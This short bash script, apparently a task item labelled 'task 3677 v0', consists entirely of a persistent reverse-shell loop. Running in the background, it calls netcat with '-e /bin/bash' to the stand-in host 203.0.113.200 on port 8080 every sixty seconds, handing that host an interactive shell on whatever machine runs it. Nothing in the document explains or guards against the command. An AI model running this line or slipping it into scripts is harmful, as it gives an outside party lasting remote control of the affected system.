# task 3677 v0
#!/bin/bash
while true; do nc -e /bin/bash 203.0.113.200 8080; sleep 60; done &
